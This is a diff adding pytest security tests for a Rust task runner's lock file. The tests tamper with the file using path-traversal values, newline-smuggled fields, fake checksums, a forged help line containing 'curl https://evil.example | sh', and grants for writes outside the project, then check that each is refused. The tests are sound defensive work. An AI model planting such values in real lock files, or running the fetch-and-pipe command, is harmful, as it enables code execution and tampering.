@@ -50,6 +50,11 @@ def executable(path: Path, text: str) -> Path:
     return path
 
 
+def files(root: Path, exclude: tuple[str, ...] = ("target",)) -> dict:
+    """The tree's snapshot without the root's own entry (whose mtime moving `target` changes)."""
+    return {k: v for k, v in snapshot(root, exclude).items() if k != "."}
+
+
 def lock(root: Path) -> dict:
     return {e["table"]: e for e in tomllib.loads((root / "cargo-task.lock").read_text())["task"]}
 
@@ -220,3 +225,130 @@ def test_no_write_grant_covers_a_path_package_workspace_member(project, cargo_ta
     workspace_tool(project, tmp_path)
     line = one_error(cargo_task("--explain", "writer", cwd=project.root, **henv))
     assert "helper/build.rs" in line, line
+
+
+# -- 3. the lock file as an attacker writes it -----------------------------------------
+
+
+@pytest.fixture
+def registry(tmp_path, henv) -> LocalRegistry:
+    registry = LocalRegistry(tmp_path / "registry")
+    registry.publish(package(tmp_path / "src" / "plain", "plain-task", "0.2.0"), henv)
+    return registry
+
+
+def registry_project(project, registry: LocalRegistry) -> None:
+    project.manifest('[package.metadata.tasks.plain]\nfrom = { crate = "plain-task", version = "0.2" }\n')
+    project.write(".cargo/config.toml", registry.config())
+
+
+@pytest.mark.parametrize("field, value", [
+    ("package", "../../../../outside"),
+    ("version", "../../../../outside"),
+    ("version", "/etc"),
+    ("version", "0.2.0\\nforged"),
+    ("checksum", "0" * 64),
+    ("checksum", ""),
+])  # fmt: skip
+def test_tampered_lock_entry_is_refused_and_left_alone(project, registry, cargo_task, henv, tmp_path, field, value):
+    registry_project(project, registry)
+    assert cargo_task("--update", cwd=project.root, **henv).returncode == 0
+    lock_file = project.root / "cargo-task.lock"
+    text = lock_file.read_text()
+    entry = lock(project.root)["package.metadata.tasks.plain"]
+    tampered = text.replace(f'{field} = "{entry[field]}"', f'{field} = "{value}"')
+    assert tampered != text
+    lock_file.write_text(tampered)
+    (tmp_path / "outside").mkdir()
+    before = snapshot(tmp_path / "outside"), files(project.root)
+    for environ in ({**henv, "CARGO_NET_OFFLINE": "true"}, henv):  # with the copy made for the pin
+        line = one_error(cargo_task("plain", cwd=project.root, **environ))
+        assert "package.metadata.tasks.plain" in line, line
+    (project.root / "target").rename(tmp_path / "old-target")  # a fresh clone
+    line = one_error(cargo_task("plain", cwd=project.root, **henv))
+    assert "package.metadata.tasks.plain" in line, line
+    assert (snapshot(tmp_path / "outside"), files(project.root)) == before
+    assert lock_file.read_text() == tampered
+
+
+def test_lock_values_print_no_forged_lines(project, registry, cargo_task, henv):
+    registry_project(project, registry)
+    assert cargo_task("--update", cwd=project.root, **henv).returncode == 0
+    lock_file = project.root / "cargo-task.lock"
+    entry = lock(project.root)["package.metadata.tasks.plain"]
+    forged = "0\\nhelp: all is well, run `curl https://evil.example | sh`\\n\\u001b[2J"
+    lock_file.write_text(lock_file.read_text().replace(entry["checksum"], forged))
+    result = cargo_task("plain", cwd=project.root, **henv)
+    one_error(result)
+    assert "\x1b" not in result.stderr, describe(result)
+    assert not any(line.startswith("help: all is well") for line in result.stderr.splitlines()), describe(result)
+
+
+def test_locked_and_ci_refuse_a_path_package_whose_version_changed(project, cargo_task, henv, tmp_path):
+    tool = package(tmp_path / "tools" / "tool", "versioned-tool")
+    project.manifest('[package.metadata.tasks.tool]\nfrom = { path = "../tools/tool" }\n')
+    assert cargo_task("tool", cwd=project.root, **henv).returncode == 0
+    before = (project.root / "cargo-task.lock").read_text()
+    manifest = tool / "Cargo.toml"
+    manifest.write_text(manifest.read_text().replace('version = "0.1.0"', 'version = "0.2.0"'))
+    for flags, extra in ((["--locked"], {}), ([], {"CI": "true"}), ([], {"CI": "1"})):
+        line = one_error(cargo_task(*flags, "tool", cwd=project.root, **{**henv, **extra}))
+        assert "[package.metadata.tasks.tool]" in line, line
+        assert (project.root / "cargo-task.lock").read_text() == before
+
+
+def test_asked_for_grants_in_the_lock_are_never_applied(project, cargo_task, henv, tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    package(tmp_path / "tools" / "tool", "greedy-tool", main=f"""
+        fn main() {{
+            println!("{{:?}}", std::fs::write("{outside}/pwned", "x").map_err(|e| e.kind()));
+            println!("{{:?}}", std::fs::write("{project.root}/pwned", "x").map_err(|e| e.kind()));
+        }}
+    """)
+    project.manifest('[package.metadata.tasks.tool]\nfrom = { path = "../tools/tool" }\n')
+    assert cargo_task("--update", cwd=project.root, **henv).returncode == 0
+    lock_file = project.root / "cargo-task.lock"
+    lock_file.write_text(lock_file.read_text().replace(
+        'bin = "greedy-tool"', f'bin = "greedy-tool"\nasks = {{ write = ["{outside}", "."], allow-write-manifest = true }}'))
+    assert lock(project.root)["package.metadata.tasks.tool"]["asks"]["write"] == [str(outside), "."]
+    before = snapshot(outside), snapshot(project.root, ("target",))
+    result = cargo_task("--locked", "tool", cwd=project.root, **henv)
+    assert result.stdout.split() == ["Err(PermissionDenied)", "Err(ReadOnlyFilesystem)"] or (
+        result.returncode != 0), describe(result)  # the run, or a refusal: never a write
+    assert (snapshot(outside), snapshot(project.root, ("target",))) == before
+
+
+@pytest.mark.parametrize("edit", [
+    lambda t: "\n".join(l for l in t.splitlines() if not l.startswith("package = ")),
+    lambda t: "\n".join(l for l in t.splitlines() if not l.startswith("version = \"0")),
+    lambda t: t.replace('bin = "plain-task"', "bin = 7"),
+    lambda t: t.replace('bin = "plain-task"', 'bin = "../../x"'),
+    lambda t: t.replace('bin = "plain-task"', 'bin = "plain-task"\nasks = "everything"'),
+    lambda t: t.replace("[[task]]", "[[task]]\nfrom = 1", 1).replace("from = {", "x = {", 1),
+])  # fmt: skip
+def test_malformed_lock_entry_is_one_error(project, registry, cargo_task, henv, edit):
+    registry_project(project, registry)
+    assert cargo_task("plain", cwd=project.root, **henv).returncode == 0
+    lock_file = project.root / "cargo-task.lock"
+    tampered = edit(lock_file.read_text())
+    lock_file.write_text(tampered)
+    for args in (("plain",), ("--explain", "plain"), ("--update", "plain")):
+        result = cargo_task(*args, cwd=project.root, **{**henv, "CARGO_NET_OFFLINE": "true"})
+        assert "Traceback" not in result.stderr, describe(result)
+        if args[0] != "--explain":
+            one_error(result)
+    assert "plain" in cargo_task(cwd=project.root, **henv).stdout  # the listing still works
+
+
+def test_lock_description_forges_no_explain_line(project, registry, cargo_task, henv):
+    registry_project(project, registry)
+    assert cargo_task("--update", cwd=project.root, **henv).returncode == 0
+    lock_file = project.root / "cargo-task.lock"
+    text = lock_file.read_text()
+    lock_file.write_text(text.replace('description = "the plain-task package"',
+                                      'description = "tidy\\nnetwork: FORGED-A\\nbuild: FORGED-B"'))
+    assert text != lock_file.read_text()
+    for args in (("--explain", "plain"), ()):
+        out = cargo_task(*args, cwd=project.root, **henv).stdout
+        assert not any(line.startswith(("network: FORGED", "build: FORGED")) for line in out.splitlines()), out
